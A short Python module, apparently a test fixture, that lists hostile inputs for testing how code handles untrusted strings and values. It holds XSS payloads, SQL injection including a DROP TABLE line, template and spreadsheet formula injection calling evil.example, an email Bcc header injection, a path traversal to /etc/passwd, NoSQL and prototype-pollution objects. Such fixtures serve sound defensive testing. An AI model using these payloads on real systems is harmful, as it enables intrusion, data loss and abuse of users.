"""What may come in any place where something else is expected."""

from __future__ import annotations

from typing import Any

MARK = "canary"
"""In everything, so that nothing of it can hide."""

TEXTS = [
    "",
    f"<img src=x onerror={MARK}()>",
    f"\"'><svg/onload={MARK}()>",
    f"</script></textarea></style><script>{MARK}()</script>",
    f"{{{{{MARK}}}}}${{{MARK}}}{{% {MARK} %}}%({MARK})s",
    f"javascript:{MARK}()",
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"\t@SUM(1)|{MARK}",
    f"+{MARK}",
    f"{MARK}'; DROP TABLE users; --",
    f"{MARK}' OR '1'='1",
    f"{MARK}%_\\%",
    f"{MARK}\x00null\x1b[2J\x85\u2028",
    f"\u202e{MARK}\u2066\u200b\ufeff\U000e0041",
    f"{MARK}\r\nBcc: everyone@evil.example",
    "\ud83d" + MARK,
    f"٣{MARK}½é👩‍🏫",
    "../../../../etc/passwd",
    "999999999999999999999",
    "-1",
    "1e999",
    "NaN",
    MARK * 2_000,
]
HOSTILE: list[Any] = [
    None, 0, -1, 2**31, 2**63, 2**70, 1.5, float("inf"), True, [], ["list"], {},
    {"nested": {"deep": ["x"]}}, {"$ne": ""}, {"": "", "__proto__": {"a": 1}},
]  # fmt: skip
"""What a socket can also say."""
